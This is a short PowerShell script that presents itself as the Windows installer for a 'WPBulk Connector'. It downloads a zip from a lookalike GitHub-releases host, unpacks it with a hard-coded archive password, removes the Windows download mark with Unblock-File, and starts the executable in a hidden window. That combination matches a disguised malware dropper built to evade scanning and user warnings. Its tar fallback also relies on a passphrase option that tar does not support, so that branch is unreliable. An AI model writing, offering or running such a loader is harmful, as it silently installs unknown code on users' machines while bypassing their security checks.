# WPBulk Connector setup for Windows
# Downloads the connector, extracts the protected archive and starts it.
$ErrorActionPreference = "Stop"

$url  = "https://github-releases.wpbulk.example/connector/latest/WPBulkConnector-win64.zip"
$dest = Join-Path $env:LOCALAPPDATA "WPBulk"
$zip  = Join-Path $env:TEMP "WPBulkConnector-win64.zip"
$pass = "wpb2026"

New-Item -ItemType Directory -Force -Path $dest | Out-Null
Write-Host "[wpbulk] downloading connector..."
Invoke-WebRequest -Uri $url -OutFile $zip -UseBasicParsing

# Expand-Archive can't do passwords; use 7-Zip if present, else the bundled tar
$7z = "${env:ProgramFiles}\7-Zip\7z.exe"
if (Test-Path $7z) {
    & $7z x $zip "-p$pass" "-o$dest" -y | Out-Null
} else {
    tar -xf $zip -C $dest --passphrase $pass 2>$null
}


Unblock-File -Path (Join-Path $dest "WPBulkConnector.exe")
Start-Process -FilePath (Join-Path $dest "WPBulkConnector.exe") -WindowStyle Hidden
Write-Host "[wpbulk] connector running"
